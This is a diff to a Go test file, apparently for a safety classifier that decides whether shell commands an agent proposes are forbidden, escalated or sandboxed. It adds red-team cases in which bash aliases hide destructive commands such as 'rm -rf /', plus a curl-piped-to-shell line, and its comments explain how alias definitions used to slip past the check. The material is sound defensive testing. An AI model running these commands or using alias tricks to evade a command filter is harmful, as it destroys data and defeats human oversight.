@@ -10,14 +10,25 @@ import "testing"
 // bash -c $'shopt -s expand_aliases\nalias r="echo AL"\nr x' prints AL x).
 // BASH_ALIASES[NAME]=VALUE defines an alias too and is not looked at.
 // The controls: an alias whose value is dangerous alone is still caught.
+// Fixed: alias and BASH_ALIASES definitions are recorded, and a later
+// command starting with an unquoted alias name is also classified as the
+// alias value followed by the rest of its words (a value ending in a blank
+// expands the next word too); an assignment to BASH_ALIASES is eval-exec.
 func TestRedteam16AliasUse(t *testing.T) {
 	c := Default()
 	for _, tc := range []struct {
 		command string
 		want    Decision
 	}{
-		{"alias r='rm -rf /'", Forbidden},                                       // control
-		{"shopt -s expand_aliases\nalias r='git push'\nr", Escalated},           // control
+		{"alias r='rm -rf /'", Forbidden},                             // control
+		{"shopt -s expand_aliases\nalias r='git push'\nr", Escalated}, // control
+		{"alias ll='ls -la'\nll", Sandboxed},                          // control
+		{"alias ls='ls -la'\nls", Sandboxed},                          // control: no loop
+		{"alias a=b b=a\na", Sandboxed},                               // control: no loop
+		{"alias s='sudo ' x='rm -rf /tmp/x'\ns x", Escalated},
+		{"alias x='rm -rf'\nalias y='x /'\ny", Forbidden},
+		{"alias \"$N\"='rm -rf'\nls /", Escalated},
+		{"curl -s http://x/ | { alias c=sh; c; }", Forbidden},
 		{"shopt -s expand_aliases\nalias ls='rm -rf'\nls /", Escalated},         // attack: sandboxed
 		{"shopt -s expand_aliases\nalias g=git\ng push", Escalated},             // attack: sandboxed
 		{"shopt -s expand_aliases\nalias ls='rm -rf'\nls ~", Escalated},         // attack: sandboxed
